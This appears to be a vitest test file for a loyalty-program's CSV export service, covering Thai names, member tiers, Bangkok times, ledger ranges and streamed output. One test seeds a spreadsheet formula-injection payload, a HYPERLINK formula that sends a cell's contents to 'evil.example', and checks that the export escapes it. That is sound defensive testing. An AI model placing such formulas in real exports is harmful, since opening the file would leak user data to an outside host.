import { sql } from 'drizzle-orm';
import { describe, expect, it } from 'vitest';
import { addSpending, createMember, uniqueMobile } from '../../../test/factories.js';
import { useTestDatabase } from '../../../test/helper.js';
import { memberTierStatuses } from '../../db/schema.js';
import { TERMINAL_ACTOR } from '../audit/audit-service.js';
import { bangkokInstant } from '../calendar/bangkok-calendar.js';
import { earnPoints, spendPoints } from '../points/point-service.js';
import { type ExportRequest, ledgerRangeOf, startExport } from './export-service.js';

const context = useTestDatabase();
const LATER = new Date('2031-12-31T16:59:59Z');

/** The export's CSV stream as an operator's download gets it (startExport records the audit row first). */
async function exportCsv(request: ExportRequest) {
  return (await startExport(context.database, TERMINAL_ACTOR, request)).body;
}

async function readAll(stream: NodeJS.ReadableStream): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(Buffer.from(chunk as Buffer));
  return Buffer.concat(chunks).toString('utf8');
}

describe('CSV exports', () => {
  it('writes members as UTF-8 CSV with a byte-order mark, Thai names and balances', async () => {
    const { orm } = context.database;
    const member = await createMember(orm, { firstName: 'สมชาย', lastName: 'ใจดี, "ตัวจริง"' });
    await earnPoints(orm, { memberId: member.id, amount: 75, source: 'code', reason: 'c', expiresAt: LATER });

    const csv = await readAll(await exportCsv({ kind: 'members', filters: {} }));

    expect(
      csv.startsWith(
        '\uFEFFmember_id,status,login_type,first_name,last_name,email,mobile_no,tier,point_balance,created_at\n',
      ),
    ).toBe(true);
    const line = csv.split('\n').find((row) => row.startsWith(member.mbkMemberId));
    expect(line).toBe(
      `${member.mbkMemberId},Active,Foreigner,สมชาย,"ใจดี, ""ตัวจริง""",${member.email},,Member,75,${bangkokInstant(member.createdAt)}`,
    );
  });

  it('writes the tier the last twelve months’ spending reached, the mobile as grouped text and Bangkok times', async () => {
    const { orm } = context.database;
    const now = new Date();
    const mobile = uniqueMobile();
    const member = await createMember(orm, { loginType: 2, mobileNo: mobile, status: 'suspended' });
    await addSpending(orm, { memberId: member.id, amount: 60_000, spentAt: new Date(now.getTime() - 86_400_000) });
    await addSpending(orm, { memberId: member.id, amount: 200_000, spentAt: new Date('2020-01-01T00:00:00Z') });

    const csv = await readAll(await exportCsv({ kind: 'members', filters: {} }));

    const line = csv
      .split('\n')
      .find((row) => row.startsWith(member.mbkMemberId))
      ?.split(',');
    expect(line?.slice(1, 3)).toEqual(['Suspended', 'Thai']);
    expect(line?.slice(6, 9)).toEqual([`${mobile.slice(0, 3)}-${mobile.slice(3, 6)}-${mobile.slice(6)}`, 'Gold', '0']);
    expect(line?.[9]).toMatch(/^\d{4}-\d{2}-\d{2}T\d{2}:\d{2}:\d{2}\+07:00$/);
  });

  it('writes the tier a member holds when the rolling spending has fallen below it (DESIGN §14)', async () => {
    const { orm } = context.database;
    const member = await createMember(orm);
    await addSpending(orm, { memberId: member.id, amount: 25_000, spentAt: new Date(Date.now() - 86_400_000) });
    await orm
      .insert(memberTierStatuses)
      .values({ memberId: member.id, tierId: 4, expiresAt: new Date(Date.now() + 30 * 86_400_000) });

    const csv = await readAll(await exportCsv({ kind: 'members', filters: {} }));

    const line = csv
      .split('\n')
      .find((row) => row.startsWith(member.mbkMemberId))
      ?.split(',');
    expect(line?.[7]).toBe('Platinum');
  });

  it('writes text a spreadsheet would run as a formula as text, and negative numbers as numbers', async () => {
    const { orm } = context.database;
    const member = await createMember(orm, {
      firstName: '=HYPERLINK("http://evil.example/?x="&E2,"Click")',
      lastName: '@SUM(1+1)',
    });
    await earnPoints(orm, { memberId: member.id, amount: 20, source: 'code', reason: '+cmd', expiresAt: LATER });
    await spendPoints(orm, { memberId: member.id, amount: 5, source: 'redemption', reason: '-2+3' });

    const members = await readAll(await exportCsv({ kind: 'members', filters: {} }));
    const ledger = await readAll(await exportCsv({ kind: 'ledger', filters: {} }));

    const line = members.split('\n').find((row) => row.startsWith(member.mbkMemberId));
    expect(line).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&E2,""Click"")",'@SUM(1+1),`);
    const entries = ledger.split('\n').filter((row) => row.includes(`,${member.mbkMemberId},`));
    expect(entries.map((row) => row.split(',').slice(2, 6))).toEqual([
      ['Earned', 'Code', '20', "'+cmd"],
      ['Spent', 'Redemption', '-5', "'-2+3"],
    ]);
  });

  it('limits the ledger export to Asia/Bangkok days, both ends included', async () => {
    expect(ledgerRangeOf({ from: '2026-01-01', to: '2026-01-31' })).toEqual({
      from: new Date('2025-12-31T17:00:00Z'),
      to: new Date('2026-01-31T17:00:00Z'),
    });
    expect(() => ledgerRangeOf({ from: '2026-02-01', to: '2026-01-31' })).toThrow(
      expect.objectContaining({ code: 'VALIDATION_FAILED' }),
    );
  });

  it('sends the first rows while the cursor still holds the rest (streamed, never built in memory)', async () => {
    const { orm, pool } = context.database;
    await orm.execute(sql`insert into members (login_type, email, first_name, last_name)
      select 1, 'bulk-' || n || '@example.com', 'Bulk', 'Member ' || n from generate_series(1, 20000) as n`);
    const csv = await exportCsv({ kind: 'members', filters: {} });
    const iterator = csv[Symbol.asyncIterator]();

    const first = await iterator.next();
    const stateOfExport = async () => {
      const { rows } = await pool.query<{ state: string }>(
        "select state from pg_stat_activity where datname = current_database() and query like '%as member_id%' and pid <> pg_backend_pid()",
      );
      return rows.map((row) => row.state);
    };
    // The export's query is still running on the server (its cursor suspended) when the first bytes arrive.
    const whileReading = await stateOfExport();
    let lines = String(first.value).split('\n').length - 1;
    for (let next = await iterator.next(); !next.done; next = await iterator.next()) {
      lines += String(next.value).split('\n').length - 1;
    }

    expect(String(first.value)).toContain('member_id');
    expect(whileReading).toEqual(['active']);
    expect(lines).toBeGreaterThan(20_000);
    expect(await stateOfExport()).toEqual(['idle']);
  });
});
